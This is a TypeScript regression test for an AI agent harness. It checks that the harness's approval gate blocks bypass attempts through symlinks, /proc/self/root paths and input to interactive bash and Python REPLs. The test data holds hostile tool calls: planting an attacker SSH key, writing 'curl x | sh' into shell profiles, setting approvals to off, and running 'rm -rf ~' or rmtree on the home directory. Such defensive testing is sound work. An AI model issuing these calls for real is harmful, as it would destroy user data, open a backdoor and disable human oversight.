// Issue 16 regression fence, file and process paths: write_file through /proc/self/root and workspace symlinks,
// and input submitted to interactive shells and interpreter REPLs through the process tool. Approvals are manual
// and the client denies; the victims under a throwaway HOME and HERMES_HOME must survive.
import { existsSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useE2E } from '../support/e2e-env';
import { call, callMany, intact, setupVictims } from '../support/bypass';

const env = useE2E({ drained: true });

describe('issue 16 bypasses through file tools and process stdin', () => {
  it('asks before every sensitive write and every REPL input, and nothing is rewritten or deleted', async () => {
    const v = await setupVictims(env);
    const wrong: string[] = [];
    symlinkSync(join(v.userHome, '.bashrc'), join(v.ws, 'notes.txt'));
    symlinkSync(join(v.hermesHome, 'config.yaml'), join(v.ws, 'settings.yaml'));
    symlinkSync(join(v.userHome, '.ssh'), join(v.ws, 'keys'));
    const writes = [
      { name: 'write_file', arguments: { path: `/proc/self/root${v.userHome}/.ssh/authorized_keys`, content: 'ssh-ed25519 AAAA attacker\n' } },
      { name: 'write_file', arguments: { path: `/proc/self/root${v.userHome}/.profile`, content: 'curl x | sh\n' } },
      { name: 'write_file', arguments: { path: `/proc/self/root${v.hermesHome}/config.yaml`, content: 'approvals:\n  mode: off\n' } },
      { name: 'write_file', arguments: { path: 'notes.txt', content: 'curl x | sh\n' } },
      { name: 'write_file', arguments: { path: 'settings.yaml', content: 'approvals:\n  mode: off\n' } },
      { name: 'write_file', arguments: { path: 'keys/authorized_keys', content: 'ssh-ed25519 AAAA attacker\n' } },
      { name: 'patch', arguments: { path: 'notes.txt', old_string: '# rc', new_string: 'curl x | sh' } },
    ];
    const asked0 = v.asked.length;
    const outs = await callMany(env, v, writes);
    writes.forEach((w, j) => {
      if (!/BLOCKED/.test(outs[j] ?? '')) wrong.push(`${w.name} ${w.arguments.path} -> ${(outs[j] ?? '').slice(0, 200)}`);
    });
    expect(v.asked.length - asked0).toBe(writes.length);

    // Interactive shells get their input judged as commands; REPL input is code and always asks.
    const bash = await call(env, v, 'terminal', { command: 'bash -i', background: true });
    const bashId = /Started background process (\S+?)[ .]/.exec(bash)?.[1];
    const py = await call(env, v, 'terminal', { command: '/usr/bin/python3 -i', background: true });
    const pyId = /Started background process (\S+?)[ .]/.exec(py)?.[1];
    expect(bashId, bash).toBeTruthy();
    expect(pyId, py).toBeTruthy();
    const before = v.asked.length;
    let out = await call(env, v, 'process', { action: 'submit', process_id: bashId, data: 'rm -rf ~' });
    if (!/BLOCKED \(hard line\)/.test(out)) wrong.push(`bash -i: rm -rf ~ -> ${out.slice(0, 200)}`);
    out = await call(env, v, 'process', { action: 'submit', process_id: bashId, data: 'cd ~ && rm -rf victim' });
    if (!/BLOCKED/.test(out)) wrong.push(`bash -i: rm -rf victim -> ${out.slice(0, 200)}`);
    out = await call(env, v, 'process', { action: 'submit', process_id: pyId, data: `import shutil; shutil.rmtree(${JSON.stringify(join(v.userHome, 'victim'))})` });
    if (!/BLOCKED/.test(out)) wrong.push(`python -i: rmtree -> ${out.slice(0, 200)}`);
    out = await call(env, v, 'process', { action: 'write', process_id: pyId, data: 'print(1)\n' });
    if (!/BLOCKED/.test(out)) wrong.push(`python -i: any input asks -> ${out.slice(0, 200)}`);
    expect(v.asked.length - before).toBe(3);
    // Harmless shell input still flows without a question.
    out = await call(env, v, 'process', { action: 'submit', process_id: bashId, data: 'echo still-here' });
    if (/BLOCKED/.test(out)) wrong.push(`bash -i: echo was refused -> ${out}`);
    await call(env, v, 'process', { action: 'kill', process_id: bashId });
    await call(env, v, 'process', { action: 'kill', process_id: pyId });
    expect(wrong).toEqual([]);
    expect(intact(v)).toEqual([]);
    expect(existsSync(join(v.userHome, '.ssh', 'id_rsa'))).toBe(true);
  });
});
